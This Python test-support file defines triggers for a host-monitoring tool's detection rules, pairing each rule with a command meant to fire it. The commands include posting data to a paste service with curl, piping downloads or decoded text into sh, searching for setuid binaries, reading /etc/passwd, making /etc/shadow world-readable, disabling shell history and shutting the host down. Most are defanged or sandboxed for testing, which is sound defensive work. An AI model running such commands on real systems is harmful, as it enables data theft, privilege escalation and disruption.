"""Triggers of mozu's own rules on the host that are about tools of the system."""

import re
from typing import Final

from tests.support.triggers import Trigger

NAMED: Final = (
    ("Host surveyed by a tool", "whoami"),
    ("Text decoded on the host", "base64 -d"),
    ("Files encrypted by a tool", "ccrypt -e x"),
    ("Network traffic captured", "tcpdump -i lo"),
    ("Data sent to a messaging or paste service", "curl -d x https://0x0.st"),
    ("Account locked, unlocked or removed by hand", "userdel perch"),
    ("Service stopped by hand", "pkill nginx"),
    ("Host stopped by hand", "shutdown -h now"),
    ("CPU kept busy on purpose", "yes --help"),
    ("Transient systemd unit started", "systemd-run id"),
    ("Debugger attached to a process by hand", "gcore 1"),
)
"""Rules, each with a command whose name and arguments are enough."""


def _from_shell(rule: str, command: str) -> Trigger:
    """Return a trigger with a command that does nothing, whose parent is a shell."""
    name = command.split()[0]
    return Trigger(rule, name, f"cp /bin/true $TMP/{name}; $TMP/{command}; true", {"proc.cmdline": command})


TOOLS: Final = (
    Trigger(
        "Download piped into a shell",
        re.compile("^((da)?sh|curl)$"),
        "$BIN/curl -s x | sh",
        {"proc.cmdline": re.compile("^(sh|curl -s x)$")},
    ),
    Trigger(
        "Decoded text piped into a shell",
        re.compile("^((da)?sh|base64|cat)$"),
        "base64 -d /dev/null | cat | sh",
        {"proc.cmdline": re.compile("^(sh|cat|base64 -d /dev/null)$")},
    ),
    Trigger(
        "Set-user-ID programs searched for",
        "find",
        ("setpriv", "--reuid=65534", "--clear-groups", "find", "/dev/null", "-perm", "-4000"),
    ),
    _from_shell("Virtual machine detected by hand", "dmidecode -s x"),
    _from_shell("Screen or clipboard read by a tool", "xwd -root"),
    Trigger("Users and sudo rules read by a tool", "cat", "cat /etc/passwd", {"fd.name": "/etc/passwd"}),
    Trigger(
        "Text decoded in the argument of an interpreter",
        "python3",
        ("$PYTHON", "-c", "import base64; base64.b64decode('')"),
    ),
    Trigger(
        "Directory served to the network by hand",
        "python3",
        "cd $TMP; $PYTHON -m http.server --help; true",
    ),
    Trigger(
        "Mailbox emptied or removed",
        re.compile("^(da)?sh$"),
        ("unshare", "--mount", "sh", "-c", "mkdir $TMP/mail; mount --bind $TMP/mail /var/mail && : > /var/mail/perch"),
        {"fd.name": "/var/mail/perch"},
    ),
    Trigger(
        "Root certificate added",
        "python3",
        (
            *("$PYTHON", "-c"),
            "import os\nos.makedirs('$TMP/tree/usr/local/share/ca-certificates', exist_ok=True)\n"
            "os.chroot('$TMP/tree')\n"
            "open('/usr/local/share/ca-certificates/perch.crt', 'w')",
        ),
        {"fd.name": "/usr/local/share/ca-certificates/perch.crt"},
    ),
    Trigger(
        "Program or script disguised as another file",
        "report.pdf",
        "cp /bin/true $TMP/report.pdf; $TMP/report.pdf",
    ),
    Trigger(
        "Shell started from within another program",
        re.compile("^(da)?sh$"),
        ("find", "$TMP", "-maxdepth", "0", "-exec", "sh", ";"),
        {"proc.pname": "find"},
    ),
    Trigger("Shell that keeps set-user-ID rights", "bash", ("bash", "-p", "-c", "true")),
    Trigger(
        "Secret made accessible to all users",
        "chmod",
        (
            "unshare",
            "--mount",
            "sh",
            "-c",
            "mkdir $TMP/open; mount --bind $TMP/open /etc && : > /etc/shadow && chmod 666 /etc/shadow",
        ),
        {"evt.arg.mode": re.compile("S_IROTH")},
    ),
    Trigger(
        "Session without command history",
        "true",
        "HISTFILE=/dev/null /bin/true; true",
        {"proc.env[HISTFILE]": "/dev/null"},
    ),
)
